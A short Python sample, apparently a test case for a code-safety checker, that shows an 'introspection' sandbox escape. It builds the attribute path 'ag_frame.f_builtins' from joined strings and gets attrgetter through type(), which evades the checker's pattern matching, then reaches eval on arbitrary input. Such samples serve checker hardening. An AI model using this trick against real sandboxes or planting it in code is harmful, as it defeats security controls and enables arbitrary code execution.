# family: introspection
# escape: "ag_frame.f_builtins" is only a string handed to the attrgetter class obtained with type(); the checker
# looks for frame attributes only in attribute syntax, getattr() and a named operator.attrgetter call.
import operator

async def ticks():
    yield 1

def tool(expr: str):
    path = "_".join(["ag", "frame"]) + ".f_builtins"
    table = type(operator.attrgetter("real"))(path)(ticks())
    return table["eval"](expr)
